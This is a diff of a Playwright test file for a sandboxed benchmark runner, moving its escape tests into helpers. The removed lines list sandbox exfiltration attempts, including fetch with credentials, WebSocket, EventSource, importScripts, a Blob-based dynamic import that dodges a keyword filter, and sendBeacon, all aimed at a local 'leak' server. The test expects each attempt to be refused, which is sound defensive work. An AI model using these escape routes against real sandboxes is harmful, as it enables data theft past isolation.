@@ -1,16 +1,12 @@
-import { once } from 'node:events';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { expect, type Page, test } from '@playwright/test';
-import { notes, over, run, runEdited, slow, status } from './bench-hands.ts';
-import { honest, serveBench, timed } from './bench-page.ts';
+import { type Job, jobMessage } from '../../lib/benchmark/sandbox/messages.ts';
+import { type BenchSite, notes, over, run, runEdited, slow, status } from './bench-hands.ts';
+import { serveBench } from './bench-page.ts';
+import { asking, foreignServer, waysOut, wordsTold } from './bench-ways-out.ts';
 
-/** Says what an expression gives inside the worker: its result is thrown, and so stands in the page. */
-const asking = (expression: string) =>
-  timed(
-    honest,
-    `async () => { let it; try { it = await (async () => { ${expression} })(); } catch (error) { it = 'refused ' + error.name; } throw new Error('RESULT ' + it); }`,
-  );
+/** What a page asks the frame to do. */
+const jobOf = ({ payload: { declaration, code } }: BenchSite) =>
+  ({ declaration, code, seed: 1, deadlineMs: 1000, budgetMs: 1000 }) satisfies Job;
 
 async function answerTo(page: Page, expression: string) {
   const site = await serveBench(slow);
@@ -61,44 +57,22 @@ test.describe('code that wants out', () => {
   });
 
   test('reaches no server by any of the ways there are', async ({ page }) => {
-    const hits: string[] = [];
-    const other = createServer(({ url = '' }, response) => {
-      hits.push(url);
-      response.setHeader('access-control-allow-origin', '*').end('out');
-    });
-    other.on('upgrade', ({ url = '' }, socket) => {
-      hits.push(url);
-      socket.destroy();
-    });
-    other.on('connection', () => hits.push('connection'));
-    await once(other.listen(0, '127.0.0.1'), 'listening');
+    const other = await foreignServer();
     const site = await serveBench(slow);
-    const [there, here] = [`127.0.0.1:${(other.address() as AddressInfo).port}`, new URL(site.origin).host];
-    const ways = [there, here].flatMap((host) => [
-      `await fetch('http://${host}/leak/fetch', { mode: 'no-cors' }); return 'out'`,
-      `await fetch('http://${host}/leak/fetch', { credentials: 'include' }); return 'out'`,
-      `return await new Promise((done) => { const it = new XMLHttpRequest(); it.onload = () => done('out'); it.onerror = () => done('refused'); it.open('GET', 'http://${host}/leak/xhr'); it.send(); })`,
-      `return await new Promise((done) => { const it = new WebSocket('ws://${host}/leak/ws'); it.onopen = () => done('out'); it.onerror = () => done('refused'); })`,
-      `return await new Promise((done) => { const it = new EventSource('http://${host}/leak/es'); it.onopen = () => done('out'); it.onerror = () => done('refused'); })`,
-      `importScripts('http://${host}/leak/scripts.js'); return 'out'`,
-      // The word itself is refused before anything runs, so it comes in by a script of its own.
-      `importScripts(URL.createObjectURL(new Blob(['self.load = (it) => import(it)']))); await load('http://${host}/leak/import.js'); return 'out'`,
-      `await new Promise((done, fail) => { const it = new Worker('http://${host}/leak/worker.js'); it.onerror = fail; setTimeout(done, 300); }); return 'out'`,
-      `navigator.sendBeacon?.('http://${host}/leak/beacon'); return typeof navigator.sendBeacon`,
-      `return typeof RTCPeerConnection`,
-    ]);
-    const tries = ways.map((way) => `async () => { ${way} }`).join(',\n');
-    const all = asking(
-      `const told = []; for (const way of [${tries}]) { try { told.push(await Promise.race([way(), new Promise((done) => setTimeout(() => done('late'), 400))])); } catch { told.push('refused'); } } return told.join(' ')`,
-    );
     await page.goto(site.origin);
     const asked = site.asked.length;
-    await runEdited(page, site, all);
-    await expect(page.locator('.bench-panel')).toContainText(/RESULT|没有回答/, { timeout: 60_000 });
+    const { code, count } = waysOut([other.host, new URL(site.origin).host]);
+    await runEdited(page, site, code);
+    const told = notes(page).locator('li', { hasText: 'RESULT' });
+    await expect(told.first()).toBeVisible({ timeout: 60_000 });
     await over(page);
-    expect(hits).toEqual([]);
+    for (const text of await told.allTextContents()) {
+      expect(wordsTold(text)).toHaveLength(count);
+      expect(wordsTold(text)).not.toContain('out');
+    }
+    expect(other.hits).toEqual([]);
     expect(site.asked.slice(asked).filter((path) => path.includes('leak'))).toEqual([]);
-    await expect(page.locator('.bench-panel')).not.toContainText(/RESULT[^。]*\bout\b/);
+    await expect(page.locator('bench-run')).not.toContainText(/RESULT[^。]*\bout\b/);
     site.close();
     other.close();
   });
@@ -109,14 +83,14 @@ test.describe('the frame', () => {
     const site = await serveBench(slow);
     await page.goto(site.origin + site.frame);
     const answer = await page.evaluate(
-      (job) =>
+      ({ kind, job }) =>
         new Promise((done) => {
           const { port1, port2 } = new MessageChannel();
           port1.onmessage = ({ data }) => done(data);
-          window.postMessage({ kind: 'galley-bench-job', job }, '*', [port2]);
+          window.postMessage({ kind, job }, '*', [port2]);
           setTimeout(() => done('silence'), 1500);
         }),
-      { ...site.payload, seed: 1, deadlineMs: 1000, budgetMs: 1000 },
+      { kind: jobMessage, job: jobOf(site) },
     );
     expect(answer).toBe('silence');
     site.close();
@@ -126,19 +100,19 @@ test.describe('the frame', () => {
     const site = await serveBench(slow);
     await page.goto(site.origin);
     const answer = await page.evaluate(
-      ([frame, payload]) =>
+      ({ frame, kind, job }) =>
         new Promise((done) => {
           const made = document.createElement('iframe');
-          made.src = String(frame);
+          made.src = frame;
           made.onload = () => {
             const { port1, port2 } = new MessageChannel();
             port1.onmessage = ({ data }) => done(data);
-            made.contentWindow?.postMessage({ kind: 'galley-bench-job', job: payload }, '*', [port2]);
+            made.contentWindow?.postMessage({ kind, job }, '*', [port2]);
             setTimeout(() => done('silence'), 1500);
           };
           document.body.append(made);
         }),
-      [site.frame, { ...site.payload, seed: 1, deadlineMs: 1000, budgetMs: 1000 }] as const,
+      { frame: site.frame, kind: jobMessage, job: jobOf(site) },
     );
     expect(answer).toBe('silence');
     site.close();
